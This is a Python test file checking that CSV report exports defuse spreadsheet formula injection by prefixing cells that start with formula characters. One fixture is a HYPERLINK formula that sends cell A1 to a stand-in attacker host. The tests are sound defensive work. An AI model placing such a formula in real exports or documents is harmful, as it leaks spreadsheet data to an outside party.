"""CSV exports never hand a spreadsheet a formula that a reporter typed."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from interfaces.http.csv_export import safe_cell
from tests.conftest import FakeClock
from tests.http.conftest import Api

V1 = "/api/v1"
TITLE = '=HYPERLINK("http://evil.example/?"&A1,"help")'
SITE = "@SUM(1+1)"


def _rows(answer: object) -> list[dict[str, str]]:
    assert answer.status_code == 200 and answer.mimetype == "text/csv"  # type: ignore[attr-defined]
    return list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))  # type: ignore[attr-defined]


def test_report_csvs_defuse_text_a_reporter_typed(listing_api: Api, clock: FakeClock) -> None:
    key = listing_api.report(title=TITLE, site=SITE)
    listing_api.post(f"{V1}/issues/{key}/escalate", {"vendor": "sap", "vendor_ticket": "INC-1"})
    last = listing_api.post(
        f"{V1}/issues/{key}/workarounds",
        {"kind": "manual_ledger", "description": "-1+2 kept by hand", "retire_by": "2026-06-30", "owner": "+owner"},
    )
    assert last.status_code in (200, 201), last.get_json()
    wait = f"min_position={last.headers['X-Event-Position']}"
    csv_accept = {"Accept": "text/csv"}

    at_risk = _rows(listing_api.get(f"{V1}/reports/sla-at-risk?within=4h&{wait}", headers=csv_accept))
    assert at_risk and {(r["title"], r["site"]) for r in at_risk} == {("'" + TITLE, "'" + SITE)}
    assert all(int(r["minutes_left"]) >= 0 for r in at_risk)  # computed numbers stay numbers

    by_site = _rows(listing_api.get(f"{V1}/reports/sla-compliance?group_by=site&{wait}", headers=csv_accept))
    assert [r["site"] for r in by_site] == ["'" + SITE]

    workarounds = _rows(listing_api.get(f"{V1}/reports/workarounds?{wait}", headers=csv_accept))
    assert [(w["description"], w["owner"]) for w in workarounds] == [("'-1+2 kept by hand", "'+owner")]


def test_every_formula_start_is_defused_and_numbers_stay_numbers() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("plain 1+1") == "plain 1+1"
    assert (safe_cell(-3), safe_cell(-0.5), safe_cell(Decimal("-1.50"))) == (-3, -0.5, Decimal("-1.50"))
    assert safe_cell(["=x"]) == '["=x"]' and safe_cell(None) == "" and safe_cell(True) == "True"
